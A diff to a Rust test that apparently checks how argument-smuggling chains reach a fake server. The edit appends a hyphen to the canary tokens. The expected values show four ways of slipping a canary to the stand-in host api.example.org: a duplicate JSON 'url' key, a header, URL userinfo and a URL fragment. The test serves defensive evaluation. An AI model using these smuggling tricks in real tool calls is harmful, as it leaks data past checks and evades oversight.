@@ -32,10 +32,10 @@ fn smuggling_chains_send_the_arguments_as_they_are() {
     assert_eq!(
         args,
         [
-            r#"{"url":"http://api.example.org:4321/bxsmuggle-17/","url":"http://api.example.org:4321/bxsmuggle-17/?c=BXCANARY-n0-17"}"#,
-            r#"{"headers":{"X-Bx":"BXCANARY-n0-18"},"url":"http://api.example.org:4321/bxsmuggle-18/"}"#,
-            r#"{"url":"http://BXCANARY-n0-19@api.example.org:4321/bxsmuggle-19/"}"#,
-            r#"{"url":"http://api.example.org:4321/bxsmuggle-20/#c=BXCANARY-n0-20"}"#,
+            r#"{"url":"http://api.example.org:4321/bxsmuggle-17/","url":"http://api.example.org:4321/bxsmuggle-17/?c=BXCANARY-n0-17-"}"#,
+            r#"{"headers":{"X-Bx":"BXCANARY-n0-18-"},"url":"http://api.example.org:4321/bxsmuggle-18/"}"#,
+            r#"{"url":"http://BXCANARY-n0-19-@api.example.org:4321/bxsmuggle-19/"}"#,
+            r#"{"url":"http://api.example.org:4321/bxsmuggle-20/#c=BXCANARY-n0-20-"}"#,
         ]
     );
     // Valid JSON text each (what the fake server requires), and strictly the tool's
@@ -82,6 +82,6 @@ fn smuggling_chains_send_the_arguments_as_they_are() {
     ));
     assert!(super::smuggle::reached(
         smuggled[3],
-        &req("/bxsmuggle-20/#c=BXCANARY-n0-20")
+        &req("/bxsmuggle-20/#c=BXCANARY-n0-20-")
     ));
 }
